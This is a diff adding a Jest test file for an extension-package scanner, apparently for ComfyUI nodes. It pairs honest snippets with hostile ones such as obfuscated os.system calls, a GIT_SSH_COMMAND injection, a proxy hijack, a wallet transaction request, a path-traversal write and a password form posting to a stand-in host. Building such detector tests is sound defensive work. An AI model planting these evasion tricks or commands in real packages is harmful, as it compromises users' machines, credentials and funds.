@@ -1,0 +1,196 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { analyseFile, zipOf } from '../support/archives.js';
+
+type Files = string | Readonly<Record<string, string>>;
+
+let folder: string;
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'registry-hidden-ways-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** The findings about a package. A single text is its `__init__.py`. */
+async function findingsOf(files: Files): Promise<Awaited<ReturnType<typeof analyseFile>>['findings']> {
+  const path = join(folder, 'archive.zip');
+  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
+  return (await analyseFile(path)).findings;
+}
+
+const isHeld = async (files: Files): Promise<boolean> =>
+  (await findingsOf(files)).some(({ level }) => level === 'hold');
+
+const HERE = 'import os\nHERE = os.path.dirname(__file__)\n';
+const LOADER = `${HERE}from importlib.machinery import FileFinder, SourceFileLoader\n`;
+const ROUTES = `${HERE}from server import PromptServer\nroutes = PromptServer.instance.routes\n`;
+const page = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });
+
+/** Loads the files of a folder with an ending. */
+const loadAll = (ending: string): Files => ({
+  '__init__.py': `${LOADER}for name in os.listdir(os.path.join(HERE, "parts")):\n    if name.endswith("${ending}"):\n        SourceFileLoader(name[:-4], os.path.join(HERE, "parts", name)).load_module()\n`,
+  [`parts/one${ending}`]: 'size = 1\n',
+});
+
+describe('the checks tell apart', () => {
+  it.each<[string, { honest: Files; hostile: Files }]>([
+    ['files that a loop loads as sources', { honest: loadAll('.py'), hostile: loadAll('.tpl') }],
+    [
+      'the endings of files that a finder takes for sources',
+      {
+        honest: `${LOADER}FileFinder(HERE, (SourceFileLoader, [".py"]))\n`,
+        hostile: `${LOADER}FileFinder(HERE, (SourceFileLoader, [".tpl"]))\n`,
+      },
+    ],
+    [
+      'a folder and an archive on the path of the package',
+      {
+        honest: {
+          '__init__.py': `${HERE}__path__.append(os.path.join(HERE, "parts"))\nfrom . import one\n`,
+          'parts/one.py': 'size = 1\n',
+        },
+        hostile: {
+          '__init__.py': `${HERE}__path__.append(os.path.join(HERE, "parts.dat"))\nfrom . import one\n`,
+          'parts.dat': 'PK',
+        },
+      },
+    ],
+    [
+      'an archive that is added to the path of the package by an operator',
+      {
+        honest: `${HERE}__path__ += [os.path.join(HERE, "parts")]\n`,
+        hostile: `${HERE}__path__ += [os.path.join(HERE, "parts.zip")]\n`,
+      },
+    ],
+    [
+      'folders whose files a loader runs',
+      {
+        honest: {
+          '__init__.py': `${LOADER}SourceFileLoader("a", os.path.join(HERE, "a.py")).load_module()\n`,
+          'a.py': 'size = 1\n',
+        },
+        hostile: `${LOADER}import tempfile\nSourceFileLoader("a", os.path.join(tempfile.gettempdir(), "a.py")).load_module()\n`,
+      },
+    ],
+    [
+      'folders into which a folder is copied',
+      {
+        honest: `${HERE}import folder_paths, shutil\nshutil.copytree(HERE + "/js", os.path.join(folder_paths.base_path, "web", "extensions", "grid"))\n`,
+        hostile: `${HERE}import folder_paths, shutil\nshutil.copytree(HERE + "/more", os.path.join(folder_paths.base_path, "custom_nodes", "grid-more"))\n`,
+      },
+    ],
+    [
+      'settings that are written',
+      {
+        honest: `${HERE}with open(os.path.join(HERE, "config.ini"), "w") as file: file.write("[a]")\n`,
+        hostile: `${HERE}import folder_paths\nwith open(folder_paths.base_path + "/custom_nodes/ComfyUI-Manager/config.ini", "w") as file: file.write("[a]")\n`,
+      },
+    ],
+    [
+      'texts that are written on import',
+      {
+        honest: `${HERE}open(os.path.join(HERE, "notes"), "w").write("# Notes")\n`,
+        hostile: `${HERE}open(os.path.join(HERE, "notes"), "w").write("#!/bin/sh\\nid\\n")\n`,
+      },
+    ],
+    [
+      'proxies',
+      {
+        honest: 'import os\nos.environ["HTTPS_PROXY"] = "http://127.0.0.1:7890"\n',
+        hostile: 'import os\nfor name in ("HTTP_PROXY", "HTTPS_PROXY"): os.environ[name] = "http://a.example:80"\n',
+      },
+    ],
+    [
+      'variables of git',
+      {
+        honest: 'import os\nos.environ["GIT_TERMINAL_PROMPT"] = "0"\n',
+        hostile: 'import os\nos.environ["GIT_SSH_COMMAND"] = "id; ssh"\n',
+      },
+    ],
+    [
+      'modules that a request handler imports',
+      {
+        honest: `${ROUTES}import importlib\n@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    return importlib.import_module("json").dumps(data)\n`,
+        hostile: `${ROUTES}import importlib\n@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    return getattr(importlib.import_module(data["m"]), data["f"])(*data["a"])\n`,
+      },
+    ],
+    [
+      'what an exception carries',
+      {
+        honest: 'import os\ntry: raise ValueError(os.name)\nexcept ValueError as error: print(error.args[0])\n',
+        hostile: 'import os\ntry: raise ValueError(os)\nexcept ValueError as error: error.args[0].system("id")\n',
+      },
+    ],
+    [
+      'what a queue carries',
+      {
+        honest: 'import os, queue\nq = queue.Queue()\nq.put(os.name)\nprint(q.get())\n',
+        hostile: 'import os, queue\nq = queue.Queue()\nq.put(os)\nq.get().system("id")\n',
+      },
+    ],
+    [
+      'what a mock wraps',
+      {
+        honest: 'import json\nfrom unittest.mock import Mock\nMock(wraps=json).dumps([])\n',
+        hostile: 'import os\nfrom unittest.mock import Mock\nMock(wraps=os).system("id")\n',
+      },
+    ],
+    [
+      'members of a module that are passed on',
+      {
+        honest: 'import os\nprint(sorted(name for name, value in vars(os).items() if callable(value)))\n',
+        hostile:
+          'import os\nf = next(value for name, value in vars(os).items() if name[::-1] == "metsys")\nlist(map(f, ["id"]))\n',
+      },
+    ],
+    [
+      'names in settings of the log',
+      {
+        honest: 'import logging.config as c\nc.BaseConfigurator({"x": "ext://sys.stdout"}).config["x"]\n',
+        hostile: 'import logging.config as c\nc.BaseConfigurator({"x": "ext://os.system"}).config["x"]("id")\n',
+      },
+    ],
+    [
+      'requests to the provider of a wallet',
+      {
+        honest: page('const request = (a) => fetch("/a", { method: a });\nrequest("eth");\n'),
+        hostile: page('window.ethereum.request({ method: "eth_sendTransaction", params: [] });\n'),
+      },
+    ],
+    [
+      'names of files that are sent to the host',
+      {
+        honest: page('api.storeUserData("grid/settings.json", "{}");\n'),
+        hostile: page('api.storeUserData("../../custom_nodes/a/__init__.py", "import os");\n'),
+      },
+    ],
+    [
+      'forms that send elsewhere',
+      {
+        honest: page(
+          'const d = document.createElement("div");\nd.innerHTML = `<form action="https://pay.example/a"><button></form>`;\ndocument.body.append(d);\n',
+        ),
+        hostile: page(
+          'const d = document.createElement("div");\nd.innerHTML = `<form action="https://a.example/a"><input name=p type=password></form>`;\ndocument.body.append(d);\n',
+        ),
+      },
+    ],
+  ])('%s', async (_name, { honest, hostile }) => {
+    expect({ honest: await isHeld(honest), hostile: await isHeld(hostile) }).toEqual({ honest: false, hostile: true });
+  });
+});
+
+const SAVE = (path: string): string =>
+  `${ROUTES}@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    open(${path}, "w").write(data["text"])\n`;
+
+describe('a request handler that writes', () => {
+  it.each([
+    ['whatever file of the package a request names', 'os.path.join(HERE, data["name"])', ['warn data-theft']],
+    ['a file whose name it checks', 'os.path.join(HERE, os.path.basename(data["name"]))', []],
+    ['a file with one name', 'os.path.join(HERE, "settings.json")', []],
+  ])('%s', async (_what, path, expected) => {
+    const found = (await findingsOf(SAVE(path))).map(({ level, rule }) => `${level} ${rule}`);
+    expect(found).toEqual(expected);
+  });
+});
